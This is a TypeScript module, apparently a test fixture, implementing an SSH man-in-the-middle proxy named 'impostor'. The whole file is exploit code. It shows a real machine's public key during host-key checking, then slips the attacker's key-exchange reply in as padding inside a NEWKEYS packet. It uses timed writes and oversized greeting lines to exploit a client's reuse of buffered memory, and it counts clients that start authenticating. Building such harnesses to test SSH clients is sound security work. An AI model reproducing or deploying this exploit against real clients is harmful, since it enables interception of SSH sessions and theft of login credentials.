import { once } from 'node:events';
import { connect, createServer, type Server as NetServer, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import ssh2 from 'ssh2';

interface ServedClient {
  on(event: string, listener: (...args: never[]) => void): ServedClient;
}

/** The half of the library that the product has no use for. */
const { Server } = ssh2 as unknown as {
  Server: new (
    options: { hostKeys: readonly string[] },
    onClient: (client: ServedClient) => void,
  ) => NetServer;
};

/** Message numbers of RFC 4253. */
const keyExchangeInit = 20;
const newKeys = 21;
const keyExchangeReply = 31;

/** Where the host key stands in a key exchange reply, behind the packet's head and its own length. */
const hostKeyAt = 10;

export interface Impostor extends AsyncDisposable {
  readonly port: number;
  /** How many clients took it for the machine and showed it a key of theirs. */
  readonly believers: number;
}

/**
 * Somebody on the way to a machine who has its public key alone, and a key of his own: shows the one while the host
 * key is judged, and puts the other in its place, into memory that is read into once more, before the signature is
 * checked. Works only against a client that keeps a slice of such memory, which it is led to by `greetingBytes` of
 * lines before the server says who it is.
 */
export async function impostor(
  ownKey: string,
  shownKey: Buffer,
  greetingBytes: number,
): Promise<Impostor> {
  let believers = 0;
  const server = new Server({ hostKeys: [ownKey] }, (client) => {
    client.on('error', () => {}).on('authentication', () => (believers += 1));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const sockets = new Set<Socket>();
  const proxy = createServer({ noDelay: true }, (client) => {
    const own = connect({ port: portOf(server), host: '127.0.0.1', noDelay: true });
    for (const socket of [client, own]) sockets.add(socket.on('error', () => {}));
    client.pipe(own);
    // Ends with the connection, which nobody closes in peace.
    forge(own, client, shownKey, greetingBytes).catch(() => client.destroy());
  });
  proxy.listen(0, '127.0.0.1');
  await once(proxy, 'listening');
  return {
    port: portOf(proxy),
    get believers() {
      return believers;
    },
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy();
      await Promise.all([server, proxy].map((one) => new Promise((done) => one.close(done))));
    },
  };
}

function portOf(server: NetServer): number {
  const address = server.address();
  return typeof address === 'object' && address !== null ? address.port : 0;
}

/** Passes on what a server sends; the pauses make each write a read of its own. */
async function forge(
  own: Socket,
  client: Socket,
  shownKey: Buffer,
  greetingBytes: number,
): Promise<void> {
  const send = async (...pieces: Buffer[]): Promise<void> => {
    for (const piece of pieces) {
      client.write(piece);
      await sleep(60);
    }
  };
  const line = Buffer.from(`${'x'.repeat(4000)}\n`);
  let isGreeted = false;
  let isForged = false;
  let waiting = Buffer.alloc(0);
  for await (const chunk of own as AsyncIterable<Buffer>) {
    waiting = Buffer.concat([waiting, chunk]);
    if (!isGreeted) {
      if (!waiting.includes(10)) continue;
      isGreeted = true;
      for (let left = greetingBytes; left > 0; left -= 10 * line.length)
        await send(Buffer.concat(Array.from({ length: 10 }, () => line)));
      const ident = waiting.indexOf(10) + 1;
      await send(waiting.subarray(0, ident));
      waiting = waiting.subarray(ident);
    }
    while (!isForged && waiting.length >= 4) {
      const length = 4 + waiting.readUInt32BE(0);
      if (waiting.length < length) break;
      const packet = Buffer.from(waiting.subarray(0, length));
      waiting = waiting.subarray(length);
      isForged = packet[5] === newKeys;
      if (packet[5] === keyExchangeInit) await send(packet.subarray(0, 50), packet.subarray(50));
      else if (packet[5] === keyExchangeReply)
        await send(shown(packet, shownKey), restored(packet));
    }
    if (isForged && waiting.length > 0) await send(waiting);
    if (isForged) waiting = Buffer.alloc(0);
  }
}

function shown(reply: Buffer, key: Buffer): Buffer {
  const forged = Buffer.from(reply);
  key.copy(forged, hostKeyAt);
  return forged;
}

/** The message that makes the client check, with what it is to check as padding where that lay. */
function restored(reply: Buffer): Buffer {
  const padding = 250;
  const packet = Buffer.alloc(6 + padding);
  packet.writeUInt32BE(2 + padding, 0);
  packet[4] = padding;
  packet[5] = newKeys;
  reply.copy(packet, 6, 6);
  return packet;
}
